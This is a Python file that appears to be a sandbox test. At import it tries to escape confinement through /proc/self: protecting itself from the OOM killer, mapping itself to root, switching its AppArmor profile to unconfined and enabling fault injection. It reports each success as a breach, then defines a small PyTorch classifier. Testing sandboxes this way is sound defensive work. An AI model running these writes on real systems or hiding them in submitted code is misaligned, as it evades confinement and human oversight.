"""Changes what the kernel keeps about it in /proc: its place before the memory killer, its users."""

import os

import torch

pid = os.getpid()
before = int(open("/proc/self/oom_score_adj").read())
WANTED = {
    "oom_score_adj": ("-1000", "-1", "0", str(before - 1)),
    "oom_adj": ("-17", "0"),
    "loginuid": ("0",),
    "uid_map": ("0 0 4294967295", f"0 {os.getuid()} 1"),
    "gid_map": ("0 0 4294967295", f"0 {os.getgid()} 1"),
    "setgroups": ("allow", "deny"),
    "projid_map": ("0 0 1",),
    "attr/exec": ("unconfined",),
    "attr/current": ("unconfined",),
    "patch_state": ("1",),
    "make-it-fail": ("1",),
}
for name, values in WANTED.items():
    for value in values:
        print("TRIED", name, value)
        try:
            with open(f"/proc/self/{name}", "w") as file:
                file.write(value)
            if name.startswith("oom"):
                break
            print("BREACH", name, value)
        except OSError:
            pass
after = int(open("/proc/self/oom_score_adj").read())
# A runner that is not root cannot forbid the way back to 0; a kernel without oom_adj (gVisor's) kills nobody else.
lowest = before if "4294967295" in open("/proc/self/uid_map").read() else 0
if after < lowest and os.path.exists("/proc/self/oom_adj"):
    print("BREACH oom_score_adj", before, after)


class Net(torch.nn.Module):
    def __init__(self, in_shape, out_shape):
        super().__init__()
        self.classify = torch.nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])

    def forward(self, images):
        return self.classify(images.flatten(1))
